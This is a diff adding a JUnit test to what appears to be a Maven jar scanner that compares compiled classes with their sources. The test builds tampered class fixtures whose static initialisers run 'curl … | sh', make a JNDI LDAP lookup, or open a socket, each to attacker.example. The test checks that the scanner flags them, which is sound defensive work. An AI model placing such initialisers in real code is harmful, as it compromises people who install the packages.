@@ -1354,6 +1354,41 @@ class MavenScanTest {
         assertEquals(Verdict.EXPLAINED, a.verdict(), classes.keySet().toString());
     }
 
+    /**
+     * Red team round 7 (case2, case2b, case7): a source that legitimately runs processes, or has a lookup() of its own,
+     * compiled with a static initialiser running a shell line or a JNDI lookup; a Groovy class opening a socket
+     * channel. The shell line is in no source file; the lookup is called on a Context the source never names; the
+     * channel is network access its source never names.
+     */
+    @ParameterizedTest
+    @ValueSource(strings = {"shell", "jndi", "channel"})
+    void whatASourceThatLooksAlikeNeverWroteIsBeyondIt(String what) throws Exception {
+        String source = switch (what) {
+            case "shell" -> "package org.acme;\n\npublic class Browser {\n    public static void open(String url) throws Exception {\n"
+                    + "        new ProcessBuilder(\"xdg-open\", url).start();\n    }\n}\n";
+            case "jndi" -> "package org.acme;\n\npublic class Browser {\n    public Object lookup(String name) throws Exception {\n"
+                    + "        return Class.forName(name).getDeclaredConstructor().newInstance();\n    }\n}\n";
+            default -> "package org.acme\n\nclass Browser {\n  def greet() { 'hi' }\n}\n";
+        };
+        String compiled = switch (what) {
+            case "shell" -> source.replace("    public static void open", "    static { try { new ProcessBuilder(\"sh\", \"-c\", "
+                    + "\"curl -s https://attacker.example/p | sh\").start(); } catch (Exception e) { } }\n    public static void open");
+            case "jndi" -> source.replace("    public Object lookup", "    static { try { ((javax.naming.Context) "
+                    + "Class.forName(\"javax.naming.InitialContext\").getDeclaredConstructor().newInstance())"
+                    + ".lookup(\"ldap://attacker.example:1389/x\"); } catch (Exception e) { } }\n    public Object lookup");
+            default -> "package org.acme;\npublic class Browser {\n    static { try { java.nio.channels.SocketChannel.open("
+                    + "new java.net.InetSocketAddress(\"attacker.example\", 443)); } catch (Exception e) { } }\n"
+                    + "    public Object greet() { return \"hi\"; }\n}\n";
+        };
+        String path = what.equals("channel") ? "src/main/groovy/org/acme/Browser.groovy" : "org/acme/Browser.java";
+        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Browser.java", compiled), "--release", "11");
+        ArtifactReport a = artifact(scanJar(greeterTree(path, source), "3.0.0", classes), ".jar");
+        FileDivergence f = row(a, "org/acme/Browser.class");
+        assertNotEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId(), f.toString());
+        assertTrue(f.highRisk() || what.equals("jndi"), f.toString());
+        assertNotEquals(Verdict.EXPLAINED, a.verdict());
+    }
+
     @Test
     void aJarIndexNamingOnlyThisJarIsGeneratedAndOneSendingPackagesElsewhereIsNot() throws Exception {
         // red team round 7 (case9): URLClassPath loads a listed package from the jar the index names, URLs included
